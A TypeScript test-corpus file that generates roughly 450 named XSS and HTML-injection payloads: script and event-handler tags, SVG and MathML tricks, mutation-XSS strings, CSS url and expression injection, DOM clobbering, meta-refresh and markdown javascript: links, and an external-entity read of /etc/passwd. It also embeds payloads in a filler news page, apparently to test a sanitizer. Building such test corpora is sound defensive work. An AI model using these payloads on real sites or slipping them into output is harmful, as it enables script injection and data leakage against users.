/** One hostile input, of whatever making. */
export interface Hostile {
  readonly id: string;
  readonly kind:
    'html' | 'svg' | 'mathml' | 'css' | 'markdown' | 'address' | 'mutation' | 'clobbering' | 'refresh';
  readonly text: string;
}

/** One of our own. Whatever runs calls `dossierRan('<id>')`; whatever loads asks `http://evil.test/<id>`. */
export type Payload = Hostile;

const run = (id: string): string => `dossierRan('${id}')`;
const from = (id: string): string => `http://evil.test/${id}`;

/** Ways of writing an address that runs something, or is read as one by a careless program. */
const ADDRESSES: readonly ((id: string) => string)[] = [
  (id) => `javascript:${run(id)}`,
  (id) => `JaVaScRiPt:${run(id)}`,
  (id) => ` javascript:${run(id)}`,
  (id) => `\tjavascript:${run(id)}`,
  (id) => `java\nscript:${run(id)}`,
  (id) => `java\tscript:${run(id)}`,
  (id) => `java\rscript:${run(id)}`,
  (id) => `\u0001javascript:${run(id)}`,
  (id) => `java&#10;script:${run(id)}`,
  (id) => `&#106;avascript:${run(id)}`,
  (id) => `&#x6A;avascript&colon;${run(id)}`,
  (id) => `javascript&colon;${run(id)}`,
  (id) => `javascript&#0000058${run(id)}`,
  (id) => `javascript://example.com/%0a${run(id)}`,
  (id) => `javascript:/*http://example.com/*/${run(id)}`,
  (id) => `vbscript:${run(id)}`,
  (id) => `livescript:${run(id)}`,
  (id) => `data:text/html,<script>${run(id)}</script>`,
  (id) => `data:text/html;base64,${Buffer.from(`<script>parent.${run(id)}</script>`).toString('base64')}`,
  (id) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="${run(id)}"/>`,
  (id) => `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${run(id)}</script>`,
  (id) => `blob:http://evil.test/${id}`,
  (id) => `file:///etc/passwd?${id}`,
  (id) => `view-source:javascript:${run(id)}`,
  (id) => `feed:javascript:${run(id)}`,
  (id) => `jar:http://evil.test!/${id}`,
  (id) => `//evil.test/${id}`,
  (id) => `\\\\evil.test\\${id}`,
  (id) => `http://user:pass@evil.test/${id}`,
  (id) => `filesystem:http://evil.test/${id}`,
];

/** Places in a page where an address can stand. */
const PLACES: readonly ((address: string) => string)[] = [
  (a) => `<a href="${a}">a link to follow</a>`,
  (a) => `<img src="${a}" alt="picture">`,
  (a) => `<iframe src="${a}"></iframe>`,
  (a) => `<form action="${a}"><button>send</button></form>`,
  (a) => `<svg><a xlink:href="${a}"><text>drawn link</text></a></svg>`,
  (a) => `<math><mtext href="${a}">formula</mtext></math>`,
];

const HTML: readonly ((id: string) => string)[] = [
  (id) => `<script>${run(id)}</script>`,
  (id) => `<script src="${from(id)}"></script>`,
  (id) => `<ScRiPt>${run(id)}</sCrIpT>`,
  (id) => `<script/x>${run(id)}</script>`,
  (id) => `<script type=module>${run(id)}</script>`,
  (id) => `<<script>${run(id)}//<</script>`,
  (id) => `<scr<script>ipt>${run(id)}</scr</script>ipt>`,
  (id) => `<img src=x onerror="${run(id)}">`,
  (id) => `<img src=x onerror=&#100;ossierRan('${id}')>`,
  (id) => `<img/src=x/onerror=${run(id)}>`,
  (id) => `<img src=x:x onerror="\n${run(id)}">`,
  (id) => `<img """><script>${run(id)}</script>">`,
  (id) => `<img srcset="${from(id)} 1x, ${from(id)}b 2x" alt=x>`,
  (id) => `<picture><source srcset="${from(id)}"><img src="${from(id)}"></picture>`,
  (id) => `<img src="${from(id)}" width=1 height=1>`,
  (id) => `<img lowsrc="${from(id)}" dynsrc="${from(id)}">`,
  (id) => `<body onload="${run(id)}">`,
  (id) => `<body background="${from(id)}">`,
  (id) => `<table background="${from(id)}"><tr><td background="${from(id)}">cell</td></tr></table>`,
  (id) => `<video src="${from(id)}" autoplay onloadstart="${run(id)}"></video>`,
  (id) => `<video poster="${from(id)}"></video>`,
  (id) => `<audio src=x onerror="${run(id)}" autoplay></audio>`,
  (id) => `<video><source onerror="${run(id)}"><track src="${from(id)}" default></video>`,
  (id) => `<object data="${from(id)}"></object>`,
  (id) => `<object data="javascript:${run(id)}"></object>`,
  (id) => `<embed src="${from(id)}">`,
  (id) => `<applet code="${from(id)}"></applet>`,
  (id) => `<iframe srcdoc="<script>parent.${run(id)}</script>"></iframe>`,
  (id) => `<iframe src="${from(id)}"></iframe>`,
  (id) => `<frameset><frame src="${from(id)}"></frameset>`,
  (id) => `<portal src="${from(id)}"></portal><fencedframe src="${from(id)}"></fencedframe>`,
  (id) => `<link rel=stylesheet href="${from(id)}">`,
  (id) => `<link rel=prefetch href="${from(id)}">`,
  () => `<link rel=preconnect href="http://evil.test"><link rel=dns-prefetch href="//evil.test">`,
  (id) => `<link rel=icon href="${from(id)}"><link rel=manifest href="${from(id)}">`,
  (id) => `<link rel=modulepreload href="${from(id)}">`,
  (id) => `<link rel=import href="${from(id)}">`,
  (id) => `<base href="http://evil.test/"><img src="${id}"><a href="${id}">relative</a>`,
  (id) => `<a href="http://example.com/" ping="${from(id)}">watched link</a>`,
  (id) => `<a href="http://example.com/" onclick="${run(id)}" onmouseover="${run(id)}">handled link</a>`,
  (id) => `<input autofocus onfocus="${run(id)}">`,
  (id) => `<input type=image src="${from(id)}">`,
  (id) => `<textarea autofocus onfocus="${run(id)}"></textarea>`,
  (id) => `<select autofocus onfocus="${run(id)}"></select>`,
  (id) => `<button autofocus onfocus="${run(id)}" formaction="javascript:${run(id)}">press</button>`,
  (id) => `<details open ontoggle="${run(id)}"><summary>more</summary>text</details>`,
  (id) => `<marquee onstart="${run(id)}">moving</marquee>`,
  (id) => `<p tabindex=1 autofocus onfocus="${run(id)}">focused</p>`,
  (id) =>
    `<div onpointerenter="${run(id)}" onanimationstart="${run(id)}" style="animation:x 1s">moving</div>`,
  (id) => `<p contenteditable oninput="${run(id)}" onbeforeinput="${run(id)}">edit</p>`,
  (id) => `<dialog open onclose="${run(id)}"><form method=dialog>closing</form></dialog>`,
  (id) => `<div popover id=p onbeforetoggle="${run(id)}">over</div><button popovertarget=p>open</button>`,
  (id) => `<template><img src=x onerror="${run(id)}"></template>`,
  (id) => `<div><template shadowrootmode=open><img src=x onerror="${run(id)}"></template></div>`,
  (id) => `<x-element is=y onclick="${run(id)}">custom</x-element>`,
  (id) => `<isindex type=image src=1 onerror="${run(id)}">`,
  (id) => `<!--[if gte IE 4]><script>${run(id)}</script><![endif]-->`,
  (id) => `<?xml-stylesheet href="${from(id)}"?>`,
  (id) => `<?php ${run(id)} ?><img src=x onerror=${run(id)}>`,
  (id) => `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><p>&e; ${id}</p>`,
  (id) => `<![CDATA[<img src=x onerror="${run(id)}">]]>`,
  (id) => `<noscript><p title="</noscript><img src=x onerror=${run(id)}>"></noscript>`,
  (id) => `<xmp><img src=x onerror="${run(id)}"></xmp><img src=x onerror="${run(id)}">`,
  (id) => `<plaintext><script>${run(id)}</script>`,
  (id) => `<listing>&lt;img src=x onerror=${run(id)}&gt;</listing>`,
  (id) => `&lt;script&gt;${run(id)}&lt;/script&gt;`,
  (id) => `&amp;lt;img src=x onerror=${run(id)}&amp;gt;`,
  (id) => `\u003cimg src=x onerror=${run(id)}\u003e`,
  (id) => `＜script＞${run(id)}＜/script＞`,
  (id) => `+ADw-script+AD4-${run(id)}+ADw-/script+AD4-`,
  (id) => `<img src="x\u0000" onerror\u0000="${run(id)}" on\u0000error="${run(id)}">`,
  (id) => `<scr\u0000ipt>${run(id)}</scr\u0000ipt>`,
  (id) => `<p title='"><img src=x onerror=${run(id)}>'>quoted</p>`,
  (id) => `<p title="&quot;><img src=x onerror=${run(id)}>">quoted</p>`,
  (id) => `<p class="x" class="y" onclick=${run(id)} id="\`onmouseover=${run(id)}">twice</p>`,
];

const SVG: readonly ((id: string) => string)[] = [
  (id) => `<svg onload="${run(id)}"/>`,
  (id) => `<svg><script>${run(id)}</script></svg>`,
  (id) => `<svg><script href="${from(id)}"/></svg>`,
  (id) => `<svg><script xlink:href="data:,${run(id)}"/></svg>`,
  (id) => `<svg><image href="${from(id)}"/></svg>`,
  (id) => `<svg><use href="${from(id)}#x"/></svg>`,
  (id) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run(id)}'/></svg>#x"/></svg>`,
  (id) => `<svg><animate onbegin="${run(id)}" attributeName=x dur=1s></svg>`,
  (id) =>
    `<svg><a><animate attributeName=href values="javascript:${run(id)}"/><text y=20>go</text></a></svg>`,
  (id) => `<svg><set attributeName=onload to="${run(id)}"/></svg>`,
  (id) => `<svg><animateMotion onbegin="${run(id)}" dur=1s path="M0,0"/></svg>`,
  (id) => `<svg><foreignObject><img src=x onerror="${run(id)}"></foreignObject></svg>`,
  (id) => `<svg><style>@import "${from(id)}";</style></svg>`,
  (id) => `<svg><style><img src=x onerror="${run(id)}"></style></svg>`,
  (id) => `<svg><title><img src=x onerror="${run(id)}"></title></svg>`,
  (id) => `<svg><desc><script>${run(id)}</script></desc></svg>`,
  (id) => `<svg><handler type="application/ecmascript">${run(id)}</handler></svg>`,
  (id) => `<svg><filter><feImage href="${from(id)}"/></filter></svg>`,
  (id) => `<svg><pattern><image href="${from(id)}"/></pattern></svg>`,
  (id) => `<svg><rect fill="url(${from(id)}#x)" width=9 height=9 /></svg>`,
  (id) => `<svg><discard onbegin="${run(id)}"/></svg>`,
  (id) => `<svg><text onclick="${run(id)}">drawn</text></svg>`,
  (id) => `<svg/onload=${run(id)}//`,
  (id) => `<svg><![CDATA[><image href=x onerror=${run(id)}>]]></svg>`,
];

const MATHML: readonly ((id: string) => string)[] = [
  (id) => `<math href="javascript:${run(id)}">x</math>`,
  (id) =>
    `<math><maction actiontype="statusline#http://evil.test/${id}" xlink:href="javascript:${run(id)}">x</maction></math>`,
  (id) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${run(id)}"></annotation-xml></math>`,
  (id) => `<math><mi xlink:href="javascript:${run(id)}">x</mi></math>`,
  (id) => `<math><mtext><style><img src=x onerror="${run(id)}"></style></mtext></math>`,
  (id) => `<math><mglyph src="${from(id)}"/></math>`,
  (id) =>
    `<math><semantics><annotation-xml encoding="SVG1.1"><svg onload="${run(id)}"/></annotation-xml></semantics></math>`,
  (id) => `<math onclick="${run(id)}"><mi>y</mi></math>`,
];

/** Markup that changes its meaning when it is written out and read again (Heiderich et al., mXSS, CCS 2013, and later). */
const MUTATION: readonly ((id: string) => string)[] = [
  (id) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run(id)}&gt;">`,
  (id) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run(id)}>`,
  (id) => `<svg></p><style><a id="</style><img src=x onerror=${run(id)}>">`,
  (id) => `<svg><p><style><g title="</style><img src=x onerror=${run(id)}>"></g>`,
  (id) => `<noscript><style></noscript><img src=x onerror=${run(id)}></style>`,
  (id) => `<p><listing>&lt;/listing&gt;&lt;img src=x onerror=${run(id)}&gt;</listing>`,
  (id) => `<img alt="\`\`onerror=${run(id)} src=x">`,
  (id) => `<p style="font-family:'ar\\27 \\3b x:expression(${run(id)})\\3b \\27 ial'">text</p>`,
  (id) => `<svg><desc><![CDATA[</desc><script>${run(id)}</script>]]></svg>`,
  (id) => `<a id=x tabindex=1 onactivate=${run(id)}></a>`,
  (id) => `<math><mi><table><tr><td><style><!--</style><img src=x onerror=${run(id)}>--></table></mi></math>`,
  (id) => `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${run(id)}>">`,
  (id) => `<select><template><style><!--</style><a rel="--><img src=x onerror=${run(id)}>"></select>`,
  (id) => `<div id="1"><!--><img src=x onerror=${run(id)}>--></div>`,
  (id) => `<div><!--!><img src=x onerror=${run(id)}>--!></div>`,
  (id) => `<title><p title="</title><img src=x onerror=${run(id)}>"></title>`,
  (id) => `<textarea><p title="</textarea><img src=x onerror=${run(id)}>"></textarea>`,
  (id) => `<style><p title="</style><img src=x onerror=${run(id)}>"></style>`,
  (id) => `<iframe><p title="</iframe><img src=x onerror=${run(id)}>"></iframe>`,
  (id) => `<noembed><p title="</noembed><img src=x onerror=${run(id)}>"></noembed>`,
  (id) => `<noframes><p title="</noframes><img src=x onerror=${run(id)}>"></noframes>`,
  (id) => `<table><a href="javascript:${run(id)}"><table><tr><td>moved out</a>`,
  (id) => `<b><table><script>${run(id)}</script></table></b>`,
  (id) => `<a><p><a href="javascript:${run(id)}"><div></a>nested`,
];

const CSS: readonly ((id: string) => string)[] = [
  (id) => `background:url(${from(id)})`,
  (id) => `background-image:url('${from(id)}')`,
  (id) => `background:u\\72l(${from(id)})`,
  (id) => `background:/**/url(${from(id)})`,
  (id) => `list-style:url("${from(id)}")`,
  (id) => `list-style-image:image-set("${from(id)}" 1x)`,
  (id) => `border-image:url(${from(id)}) 1`,
  (id) => `cursor:url(${from(id)}),auto`,
  (id) => `content:url(${from(id)})`,
  (id) => `mask:url(${from(id)}#m)`,
  (id) => `filter:url(${from(id)}#f)`,
  (id) => `clip-path:url(${from(id)}#c)`,
  (id) => `shape-outside:url(${from(id)})`,
  (id) => `offset-path:url(${from(id)}#p)`,
  (id) => `behavior:url(${from(id)})`,
  (id) => `-moz-binding:url(${from(id)}#x)`,
  (id) => `width:expression(${run(id)})`,
  (id) => `width:exp/**/ression(${run(id)})`,
  (id) => `color:red;--x:url(${from(id)});background:var(--x)`,
  (id) => `background:image(${from(id)})`,
  (id) => `background:-webkit-image-set(url(${from(id)}) 1x)`,
  (id) => `background:cross-fade(url(${from(id)}),red)`,
  (id) => `position:fixed;inset:0;z-index:99999;background:red /* covers ${id} */`,
  (id) => `font-family:"x"}*{background:url(${from(id)})}`,
  (id) => `font:1em/1 x;src:url(${from(id)})`,
  (id) => `color:red;}</style><img src=x onerror=${run(id)}>`,
];

const STYLES: readonly ((css: string) => string)[] = [
  (css) => `<p style="${css.replaceAll('"', '&quot;')}">styled text</p>`,
  (css) => `<style>p, body { ${css} }</style><p>styled text</p>`,
  (css) => `<svg style="${css.replaceAll('"', '&quot;')}"><style>* { ${css} }</style></svg>`,
];

const CLOBBERING: readonly ((id: string) => string)[] = [
  () => `<form id=attributes><input name=attributes><input name=childNodes></form>`,
  () => `<a id=document></a><a id=document name=cookie href="x:1">c</a>`,
  () => `<img name=body><img name=createElement><img name=getElementById>`,
  () => `<form name=location><input name=href value="http://evil.test/"></form>`,
  () => `<iframe name=top></iframe><iframe name=parent></iframe>`,
  () => `<p id=__proto__>x</p><p id=constructor name=prototype>y</p><p class=toString>z</p>`,
  () => `<a id=defaultView><a id=defaultView name=dossier href="http://evil.test/">x</a></a>`,
  () => `<object name=currentScript data=x></object>`,
  (id) => `<form id=x tabindex=0 onfocus=${run(id)} autofocus><input id=parentNode></form>`,
  () => `<output name=nodeName>x</output><meter name=nodeType></meter>`,
];

const REFRESH: readonly ((id: string) => string)[] = [
  (id) => `<meta http-equiv=refresh content="0;url=${from(id)}">`,
  (id) => `<meta http-equiv=refresh content="0;url=javascript:${run(id)}">`,
  (id) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${run(id)}</script>">`,
  (id) => `<META HTTP-EQUIV="Refresh" CONTENT="0 ; URL = '${from(id)}'">`,
  (id) => `<meta http-equiv=set-cookie content="${id}=1">`,
  (id) => `<meta http-equiv=content-security-policy content="script-src *; report-uri ${from(id)}">`,
  (id) => `<meta charset=utf-7>+ADw-script+AD4-${run(id)}+ADw-/script+AD4-`,
  (id) => `<meta name=referrer content=unsafe-url><img src="${from(id)}">`,
  (id) => `<html manifest="${from(id)}"><p>cached</p>`,
];

const MARKDOWN: readonly ((id: string) => string)[] = [
  (id) => `[link](javascript:${run(id)})`,
  (id) => `[link](<javascript:${run(id)}>)`,
  (id) => `[link](JAVASCRIPT:${run(id)})`,
  (id) => `[link](java\tscript:${run(id)})`,
  (id) => `[link](&#x6A;avascript:${run(id)})`,
  (id) => `[link](javascript&colon;${run(id)})`,
  (id) => `[link](data:text/html;base64,${Buffer.from(`<script>${run(id)}</script>`).toString('base64')})`,
  (id) => `[link](vbscript:${run(id)} "title")`,
  (id) => `[link]: javascript:${run(id)}\n\n[link]`,
  (id) => `![image](javascript:${run(id)})`,
  (id) => `![image](${from(id)})`,
  (id) => `![image](${from(id)} "title\\" onerror=\\"${run(id)}")`,
  (id) => `![" onerror="${run(id)}](x)`,
  (id) => `<javascript:${run(id)}>`,
  (id) => `<http://evil.test/"onmouseover="${run(id)}>`,
  (id) => `<img src=x onerror=${run(id)}>`,
  (id) => `<script>${run(id)}</script>`,
  (id) => `**bold <img src=x onerror=${run(id)}> text**`,
  (id) => `\`<img src=x onerror=${run(id)}>\``,
  (id) => `\`\`\`html"><img src=x onerror=${run(id)}>\n<img src=x onerror=${run(id)}>\n\`\`\``,
  (id) => `| a | <img src=x onerror=${run(id)}> |\n|---|---|\n| [x](javascript:${run(id)}) | b |`,
  (id) => `> quoted <svg onload=${run(id)}>`,
  (id) => `- item\n  <iframe src="javascript:${run(id)}"></iframe>`,
  (id) => `[^1]\n\n[^1]: note <img src=x onerror=${run(id)}>`,
  (id) => `# heading {onclick=${run(id)}} <a href="javascript:${run(id)}">x</a>`,
  (id) => `[[javascript:${run(id)}|wiki link]]`,
  (id) => `==marked <img src=x onerror=${run(id)}>==`,
  (id) => `&lt;img src=x onerror=${run(id)}&gt;`,
  (id) => `---\ntitle: "<img src=x onerror=${run(id)}>"\nsource: "javascript:${run(id)}"\n---\ntext`,
  (id) => `<details open ontoggle=${run(id)}>\n\n*text*\n\n</details>`,
];

/** Some 450 payloads, each named, each of this project's own making. */
export const PAYLOADS: readonly Payload[] = [
  ...numbered('html', HTML),
  ...numbered('svg', SVG),
  ...numbered('mathml', MATHML),
  ...numbered('mutation', MUTATION),
  ...numbered('clobbering', CLOBBERING),
  ...numbered('refresh', REFRESH),
  ...numbered('markdown', MARKDOWN),
  ...numbered(
    'css',
    CSS.flatMap((css) => STYLES.map((style) => (id: string) => style(css(id)))),
  ),
  ...numbered(
    'address',
    ADDRESSES.flatMap((address) =>
      PLACES.map((place) => (id: string) => place(address(id).replaceAll('"', '&quot;'))),
    ),
  ),
];

function numbered(kind: Payload['kind'], makers: readonly ((id: string) => string)[]): Payload[] {
  return makers.map((make, i) => ({ id: `${kind}-${i + 1}`, kind, text: make(`${kind}-${i + 1}`) }));
}

/** The addresses alone, for fields that hold one. */
export const HOSTILE_ADDRESSES: readonly string[] = ADDRESSES.map((address, i) => address(`field-${i}`));

/** A page of plain words around a payload, so that there is an article to read. */
export const pageAround = (payload: Payload): string =>
  `<!doctype html><html><head><title>About ${payload.id}</title></head><body><article><h1>About ${payload.id}</h1>` +
  `<p>The harbour operator said on Thursday that it had ordered another four hundred robots for the terminal.</p>\n${payload.text}\n` +
  '<p>Deliveries begin in September, and the operator may pause the roll-out for eight weeks without a penalty.</p></article></body></html>';
